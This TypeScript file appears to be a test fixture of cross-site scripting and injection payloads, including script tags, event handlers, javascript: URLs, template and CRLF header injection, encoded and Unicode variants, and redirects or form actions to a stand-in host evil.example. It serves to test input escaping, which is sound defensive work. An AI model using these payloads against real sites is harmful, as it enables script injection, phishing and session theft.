// What people write who would like a page to do something for them: each calls alert() wherever it is taken for code.

/** Letters, digits and signs alone: where a name may stand, each of these is shown as it is. */
export const PRINTABLE: readonly string[] = [
  // Elements.
  '<script>alert(1)</script>',
  '<ScRiPt>alert(1)</sCrIpT>',
  '<script/x>alert(1)</script/x>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script src=data:,alert(1)></script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<<img src onerror=alert(1)//',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src onerror=alert(1)>',
  '<math><mtext><img src onerror=alert(1)>',
  '<iframe src=javascript:alert(1)>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=javascript:alert(1)>',
  '<embed src=javascript:alert(1)>',
  '<details open ontoggle=alert(1)>x',
  '<input autofocus onfocus=alert(1)>',
  '<body onload=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<meta http-equiv=refresh content=0;url=//evil.example>',
  '<base href=//evil.example>',
  '<link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><button>Sign in</button>',
  '<a href=javascript:alert(1)>Sign in</a>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src onerror=alert(1)>">',
  '<dialog open>Sign in</dialog>',
  // The end of what it stands in.
  '</title><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</h1></main><script>alert(1)</script>',
  '</textarea><script>alert(1)</script>',
  '--><script>alert(1)</script><!--',
  ']]><script>alert(1)</script>',
  '<!--<script>',
  // Attributes.
  '" onmouseover="alert(1)',
  "' onmouseover='alert(1)",
  '" autofocus onfocus=alert(1) x="',
  '"><svg onload=alert(1)>',
  '` onerror=`alert(1)`',
  '" style="position:fixed;inset:0',
  // Addresses.
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)//',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:alert(1)',
  '//evil.example/',
  '/\\evil.example',
  'https://user@evil.example',
  // Styles.
  'red;}*{display:none',
  'url(https://evil.example/x)',
  '@import "//evil.example";',
  'expression(alert(1))',
  // Templates.
  '{{ 7 | times: 6 }}',
  '{{constructor.constructor("alert(1)")()}}',
  '{% include "page.liquid" %}',
  '{% raw %}',
  '{%- assign x = 1 -%}',
  '${alert(1)}',
  '#{alert(1)}',
  '<%= alert(1) %>',
  // Messages.
  '{product}',
  '{reference}',
  '{x, plural, other {#}}',
  "'{'",
  '{',
  '$& $1 $`',
  '%s %d %n',
  // Markdown.
  '[Sign in](javascript:alert(1))',
  '![x](https://evil.example/x.png)',
  '<javascript:alert(1)>',
  '**bold** _slanted_ `code`',
  '# Sign in',
  '[x]: javascript:alert(1)',
  '~~~html',
  // Encodings.
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '&lt',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '%253Cscript%253Ealert(1)%253C/script%253E',
  '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
  '\\x3cscript\\x3ealert(1)',
  '+ADw-script+AD4-alert(1)+ADw-/script+AD4-',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u02BAonmouseover=alert(1)',
  '\u0130mg \u017Fcript \u212A',
  'Zo\u0308e \u{1F469}',
]

/** With characters that no name has, and that must do no harm where they come through. */
export const UNPRINTABLE: readonly string[] = [
  '\u0000<script>alert(1)</script>',
  '<scr\u0000ipt>alert(1)</script>',
  '<img\u000Bsrc\u000Conerror=alert(1)>',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  '\u0001javascript:alert(1)',
  'x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>',
  '\u001B]0;x\u0007',
  '\u202Egnp.<script>alert(1)</script>',
  '\u2066\u202Eadmin',
  '\u2028alert(1)\u2029',
  '\u200B<script>alert(1)</script>',
  '\uFEFF<script>alert(1)</script>',
  '\uFFFE\uFFFF<b>',
]

export const PAYLOADS: readonly string[] = [...PRINTABLE, ...UNPRINTABLE]

/** A name for a test: TAP is a text protocol, in which no control character may stand. */
export function show(payload: string): string {
  return encodeURIComponent(payload.toWellFormed())
}

/** True for what comes through any header as it is. */
export function isPlain(text: string): boolean {
  return /^[\u0020-\u007E]+$/.test(text)
}
